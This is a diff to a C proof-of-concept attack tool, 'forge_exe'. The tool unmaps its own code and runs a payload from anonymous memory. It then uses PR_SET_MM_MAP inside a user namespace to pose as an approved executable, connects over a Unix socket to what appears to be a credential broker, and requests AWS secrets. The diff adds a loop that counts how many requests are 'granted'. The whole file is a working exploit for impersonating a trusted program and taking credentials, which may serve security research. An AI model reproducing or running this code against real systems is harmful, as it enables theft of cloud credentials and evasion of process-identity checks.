@@ -3,26 +3,26 @@
  * unmaps the file that it came from, and declares the approved one its executable (PR_SET_MM_MAP), which the kernel
  * allows to those who rule over a user namespace. Statically linked, so that the code is all in one file.
  *
- *   forge_exe SOCKET REQUEST APPROVED         nothing of the approved program is mapped
- *   forge_exe SOCKET REQUEST APPROVED map     the approved program is mapped as executable too
+ *   forge_exe SOCKET REQUEST APPROVED no [COUNT]    nothing of the approved program is mapped
+ *   forge_exe SOCKET REQUEST APPROVED map [COUNT]   the approved program is mapped as executable too
  */
 #include "attack.h"
 #include <linux/prctl.h>
 #include <sys/stat.h>
 
-enum { MOST = 32 };
+enum { MOST = 32, GRANTED = 77 };
 
 /* All that the code needs once the program's own data is gone. */
 struct plan {
     struct prctl_mm_map map;
     struct { unsigned long start, length; } own[MOST];
-    int count, approved, mapped, connection;
+    int count, approved, mapped, quiet;
     unsigned long size;
     char check[128], request[512], answer[65536];
     size_t check_length, request_length;
 };
 
-__attribute__((section("payload"), always_inline)) static inline long
+__attribute__((section("moving"), always_inline)) static inline long
 call(long number, long a, long b, long c, long d, long e, long f)
 {
 #if defined(__x86_64__)
@@ -42,9 +42,9 @@ call(long number, long a, long b, long c, long d, long e, long f)
 }
 
 /* Runs from anonymous memory; only system calls, and no data but the plan. Its exit status tells the step that failed. */
-__attribute__((section("payload"), noinline, noreturn)) static void payload(struct plan *plan)
+__attribute__((section("moving"), noinline, noreturn)) static void payload(struct plan *plan)
 {
-    long status = 0, error, n;
+    long status = 0, error, n, connection;
     for (int i = 0; i < plan->count; i++)
         call(SYS_munmap, (long)plan->own[i].start, (long)plan->own[i].length, 0, 0, 0, 0);
     error = call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&plan->map, sizeof plan->map, 0, 0);
@@ -55,21 +55,25 @@ __attribute__((section("payload"), noinline, noreturn)) static void payload(stru
         status = 3;
     call(SYS_close, plan->approved, 0, 0, 0, 0, 0);
     /* The connection is made now, by what looks like the approved program; a request follows the answer to a check. */
-    if (call(SYS_connect, plan->connection, (long)plan->answer, sizeof(struct sockaddr_un), 0, 0, 0) != 0)
+    connection = call(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, 0, 0, 0);
+    if (call(SYS_connect, connection, (long)plan->answer, sizeof(struct sockaddr_un), 0, 0, 0) != 0)
         status = 4;
-    call(SYS_write, plan->connection, (long)plan->check, (long)plan->check_length, 0, 0, 0);
-    n = call(SYS_read, plan->connection, (long)plan->answer, sizeof plan->answer, 0, 0, 0);
-    if (n > 0)
+    call(SYS_write, connection, (long)plan->check, (long)plan->check_length, 0, 0, 0);
+    n = call(SYS_read, connection, (long)plan->answer, sizeof plan->answer, 0, 0, 0);
+    if (n > 0 && !plan->quiet)
         call(SYS_write, 1, (long)plan->answer, n, 0, 0, 0);
-    call(SYS_write, plan->connection, (long)plan->request, (long)plan->request_length, 0, 0, 0);
-    n = call(SYS_read, plan->connection, (long)plan->answer, sizeof plan->answer, 0, 0, 0);
-    if (n > 0)
+    call(SYS_write, connection, (long)plan->request, (long)plan->request_length, 0, 0, 0);
+    n = call(SYS_read, connection, (long)plan->answer, sizeof plan->answer, 0, 0, 0);
+    if (n > 0 && !plan->quiet)
         call(SYS_write, 1, (long)plan->answer, n, 0, 0, 0);
+    for (char *at = plan->answer; n > 6 && at < plan->answer + n - 6; at++)
+        if (at[0] == 'v' && at[1] == 'a' && at[2] == 'l' && at[3] == 'u' && at[4] == 'e' && at[5] == '"')
+            status = GRANTED;
     for (;;)
         call(SYS_exit_group, status, 0, 0, 0, 0, 0);
 }
 
-extern char __start_payload[], __stop_payload[];
+extern char __start_moving[], __stop_moving[];
 
 static void describe_memory(struct prctl_mm_map *map, int approved)
 {
@@ -112,13 +116,12 @@ int main(int argc, char **argv)
     struct stat status;
     struct plan *plan =
         mmap(NULL, sizeof *plan, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-    size_t size = (size_t)(__stop_payload - __start_payload);
+    size_t size = (size_t)(__stop_moving - __start_moving);
     char *code = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     if (argc < 4 || plan == MAP_FAILED || code == MAP_FAILED)
         fail("mmap");
     plan->approved = open(argv[3], O_RDONLY | O_CLOEXEC);
-    plan->connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
-    plan->mapped = argc > 4;
+    plan->mapped = argc > 4 && strcmp(argv[4], "map") == 0;
     if (fstat(plan->approved, &status) != 0)
         fail(argv[3]);
     plan->size = (unsigned long)status.st_size;
@@ -128,20 +131,27 @@ int main(int argc, char **argv)
     plan->check_length = (size_t)snprintf(
         plan->check, sizeof plan->check, "{\"type\":\"REQUEST\",\"action\":\"check\",\"service\":\"aws\"}\n");
     plan->request_length = (size_t)snprintf(plan->request, sizeof plan->request, "%s\n", argv[2]);
-    pid_t child = fork();
-    if (child == 0) {
-        describe_memory(&plan->map, plan->approved);
-        find_own(plan);
-        memcpy(code, __start_payload, size);
-        if (mprotect(code, size, PROT_READ | PROT_EXEC) != 0)
-            fail("mprotect");
-        ((void (*)(struct plan *))(code + ((char *)payload - __start_payload)))(plan);
+    int count = argc > 5 ? atoi(argv[5]) : 1, granted = 0;
+    plan->quiet = argc > 5;
+    for (int i = 0; i < count; i++) {
+        int ended;
+        pid_t child = fork();
+        if (child == 0) {
+            describe_memory(&plan->map, plan->approved);
+            find_own(plan);
+            memcpy(code, __start_moving, size);
+            if (mprotect(code, size, PROT_READ | PROT_EXEC) != 0)
+                fail("mprotect");
+            ((void (*)(struct plan *))(code + ((char *)payload - __start_moving)))(plan);
+        }
+        waitpid(child, &ended, 0);
+        if (WIFEXITED(ended) && WEXITSTATUS(ended) > 100)
+            printf("PR_SET_MM_MAP: %s\n", strerrorname_np(WEXITSTATUS(ended) - 100));
+        else if (!WIFEXITED(ended) || (WEXITSTATUS(ended) != 0 && WEXITSTATUS(ended) != GRANTED))
+            printf("ended with %d\n", ended);
+        else
+            granted += WEXITSTATUS(ended) == GRANTED;
     }
-    int ended;
-    waitpid(child, &ended, 0);
-    if (WIFEXITED(ended) && WEXITSTATUS(ended) > 100)
-        printf("PR_SET_MM_MAP: %s\n", strerrorname_np(WEXITSTATUS(ended) - 100));
-    else if (!WIFEXITED(ended) || WEXITSTATUS(ended) != 0)
-        printf("ended with %d\n", ended);
+    printf("%d of %d granted\n", granted, count);
     return 0;
 }
